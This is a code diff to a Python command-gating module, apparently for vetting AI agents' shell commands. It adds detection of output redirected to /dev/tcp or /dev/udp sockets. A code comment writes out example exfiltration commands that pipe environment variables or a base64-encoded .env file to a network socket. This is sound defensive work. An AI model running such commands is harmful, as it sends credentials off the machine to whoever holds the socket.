@@ -93,6 +93,17 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
             for op, target in cmd.redirects:
                 if op in (">", ">>", ">|", "&>"):
                     tainted[classify(target, where, cmd.cwd)[1]] = what
+        socket = to_socket(cmd)
+        if socket:  # env > /dev/tcp/H/P, cat .env | base64 > /dev/tcp/H/P
+            sent = what or _piped_source(cmd, where)
+            if sent:
+                hits.append(
+                    _hit(
+                        cmd,
+                        f"This sends {sent} to {socket}, a network connection. Never send "
+                        "credentials off the machine.",
+                    )
+                )
         if cmd.name in _COPIERS:
             tainted.update(_copied(cmd, where))
         if cmd.name in _NET and tainted:
@@ -305,6 +316,14 @@ def source_of(cmd: Cmd, where: Where) -> str:
     from agentreflex.gate.rules.secrets import secret_fetcher, secret_printer
 
     return secret_printer(cmd) or secret_fetcher(cmd)
+
+
+def to_socket(cmd: Cmd) -> str:
+    """The ``/dev/tcp/HOST/PORT`` (or ``/dev/udp``) bash connects ``cmd``'s output to."""
+    for op, target in cmd.redirects:
+        if op[:1] in (">", "&") and target.startswith(("/dev/tcp/", "/dev/udp/")):
+            return target
+    return ""
 
 
 def _network(cmd: Cmd, cmds: list[Cmd], where: Where) -> list[Hit]:
